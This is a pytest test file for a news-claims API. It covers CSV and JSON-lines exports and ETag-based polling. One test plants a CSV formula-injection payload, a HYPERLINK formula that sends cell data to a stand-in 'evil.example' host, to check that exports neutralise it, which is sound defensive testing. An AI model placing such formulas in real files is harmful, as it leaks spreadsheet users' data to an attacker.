"""Exports and polling: claims and score history as CSV and JSON lines, the same objects as the JSON
pages; ETag and Last-Modified answer 304 until something changes."""

import csv
import io
import json

import pytest
from rest_framework.test import APIClient

from articles.models import Article, Outlet, Sentence
from articles.outlets import reassign_articles
from reliability.api import exports
from reliability.models import ClaimLink, OutletScore
from reliability.scoring import CRITERIA

pytestmark = pytest.mark.django_db


@pytest.fixture
def api(news, token_api):
    return token_api


def streamed(response):
    assert response.status_code == 200 and response.streaming
    return b"".join(response.streaming_content).decode()


def test_claims_as_csv_have_fixed_columns_and_every_row(api):
    response = api.get("/api/v1/claims/?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="claims.csv"'
    reader = csv.DictReader(io.StringIO(streamed(response)))
    rows = list(reader)
    assert reader.fieldnames == [
        "id", "article", "outlet", "story", "published_at", "order", "start", "end", "raw_start", "raw_end",
        "text", "is_claim", "claim_score", "attribution_label", "attribution_confidence",
        "attribution_source_start", "attribution_source_end", "attribution_source_text",
        "attribution_cue_start", "attribution_cue_end", "attribution_cue_text", "attribution_justified",
        "model_label", "model_is_claim", "model_claim_class", "model_decided_by", "reviewed", "overridden",
        "unsupported", "corroborated_by", "contradicted_by", "evidence", "probabilities", "analyser",
        "analysed_at",
    ]  # fmt: skip
    assert len(rows) == Sentence.objects.count() == 9
    mayor = next(row for row in rows if row["text"].startswith("Mayor Lena Ortiz"))
    assert (mayor["model_is_claim"], mayor["model_claim_class"]) == ("True", "check_worthy")
    rival = Sentence.objects.get(text__startswith="The harbour talks will start")
    assert (
        mayor["attribution_label"],
        mayor["attribution_source_start"],
        mayor["attribution_source_end"],
    ) == (
        "named_person",
        "0",
        "16",
    )
    assert mayor["attribution_source_text"] == "Mayor Lena Ortiz" and mayor["contradicted_by"] == str(
        rival.pk
    )
    assert mayor["published_at"] == "2025-08-10T09:00:00Z" and mayor["unsupported"] == "False"
    assert all(isinstance(line, str) for line in json.loads(mayor["evidence"]))  # phrases stay apart
    plain = next(row for row in rows if row["text"].startswith("The ferry service"))
    assert plain["attribution_source_start"] == "" and plain["attribution_label"] == "none"


def test_csv_text_reads_back_exactly_whatever_it_holds(api):
    article = Article.objects.get(title="Library wing opens")
    tricky = 'She said "no", then: a line\nbreak, a comma; =SUM(A1)'
    Sentence.objects.filter(article=article, order=1).update(text=tricky)
    rows = list(
        csv.DictReader(io.StringIO(streamed(api.get(f"/api/v1/claims/?format=csv&article={article.pk}"))))
    )
    assert rows[1]["text"] == tricky


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(api, start):
    article = Article.objects.get(title="Library wing opens")
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
    Sentence.objects.filter(article=article, order=1).update(text=formula)
    rows = list(
        csv.DictReader(io.StringIO(streamed(api.get(f"/api/v1/claims/?format=csv&article={article.pk}"))))
    )
    assert rows[1]["text"] == "'" + formula
    jsonl = streamed(api.get(f"/api/v1/claims/?format=jsonl&article={article.pk}")).splitlines()
    assert json.loads(jsonl[1])["text"] == formula  # JSON is data, not a spreadsheet: left as it is


def test_json_lines_are_the_same_objects_as_the_json_pages(api):
    lines = streamed(api.get("/api/v1/claims/?format=jsonl"))
    assert lines.endswith("\n")
    exported = [json.loads(line) for line in lines.splitlines()]
    paged = api.get("/api/v1/claims/?page_size=1000").json()["results"]
    assert exported == paged


def test_exports_honour_filters_and_read_in_chunks(api, monkeypatch):
    monkeypatch.setattr(exports, "CHUNK", 2)
    lines = streamed(api.get("/api/v1/claims/?format=jsonl&outlet=rumour-rag"))
    ids = [json.loads(line)["id"] for line in lines.splitlines()]
    expected = Sentence.objects.filter(article__outlet__slug="rumour-rag").order_by("pk")
    assert ids == [sentence.pk for sentence in expected]


def test_score_history_exports_one_row_per_snapshot_with_every_criterion(api):
    rows = list(csv.DictReader(io.StringIO(streamed(api.get("/api/v1/scores/?format=csv&window=all")))))
    snapshots = OutletScore.objects.filter(window="all").order_by("pk")
    assert [int(row["id"]) for row in rows] == [snapshot.pk for snapshot in snapshots]
    for name, _, _ in CRITERIA:
        assert f"criteria_{name}_value" in rows[0]
    first = snapshots[0]
    assert float(rows[0]["overall"]) == first.overall and rows[0]["outlet"] == first.outlet.slug


def test_a_filter_error_in_an_export_is_reported_as_json(api):
    response = api.get("/api/v1/claims/?format=csv&label=rumour")
    assert response.status_code == 400 and "label" in response.json()


def test_an_unknown_format_is_a_404(api):
    assert api.get("/api/v1/claims/?format=xlsx").status_code == 404


def test_polling_gets_304_until_something_changes(api, editor):
    first = api.get("/api/v1/claims/?format=csv")
    etag, modified = first["ETag"], first["Last-Modified"]
    assert api.get("/api/v1/claims/?format=csv", HTTP_IF_NONE_MATCH=etag).status_code == 304
    again = api.get("/api/v1/claims/?format=csv", HTTP_IF_MODIFIED_SINCE=modified)
    assert again.status_code == 304 and again["ETag"] == etag and not again.content
    assert api.head("/api/v1/claims/?format=csv", HTTP_IF_NONE_MATCH=etag).status_code == 304
    assert api.get("/api/v1/claims/?format=jsonl", HTTP_IF_NONE_MATCH=etag).status_code == 200

    editor_api = APIClient()
    editor_api.force_login(editor)
    ferry = Sentence.objects.get(text__startswith="The ferry service")
    change = {"claim": ferry.pk, "value": "anonymous", "reason": "Checked with the desk."}
    assert editor_api.post("/api/v1/overrides/labels/", change, format="json").status_code == 201

    changed = api.get("/api/v1/claims/?format=csv", HTTP_IF_NONE_MATCH=etag)
    assert changed.status_code == 200 and changed["ETag"] != etag
    assert "anonymous" in streamed(changed)
    later = api.get("/api/v1/claims/?format=csv", HTTP_IF_MODIFIED_SINCE=modified)
    assert later.status_code == 200 and later["Last-Modified"] != modified


@pytest.mark.parametrize("url", ["/api/v1/claims/", "/api/v1/outlets/", "/api/v1/articles/"])
def test_moving_an_article_to_another_outlet_changes_the_etag(api, url):
    etag = api.get(url)["ETag"]
    reassign_articles(
        Article.objects.filter(title="Library wing opens"), Outlet.objects.get(slug="rumour-rag")
    )
    assert api.get(url, HTTP_IF_NONE_MATCH=etag).status_code == 200


def test_deleted_rows_change_the_etag_too(api):
    etag = api.get("/api/v1/contradictions/")["ETag"]
    ClaimLink.objects.filter(kind=ClaimLink.CONTRADICTS).delete()
    response = api.get("/api/v1/contradictions/", HTTP_IF_NONE_MATCH=etag)
    assert response.status_code == 200 and response.json()["results"] == []


def test_every_read_carries_validators(api):
    for url in (
        "/api/v1/outlets/",
        "/api/v1/outlets/rumour-rag/",
        "/api/v1/stories/",
        "/api/v1/model-versions/",
    ):
        response = api.get(url)
        assert response["ETag"].startswith('"') and response["Last-Modified"].endswith("GMT")
        assert response["Cache-Control"] == "private, no-cache"
        assert api.get(url, HTTP_IF_NONE_MATCH=response["ETag"]).status_code == 304
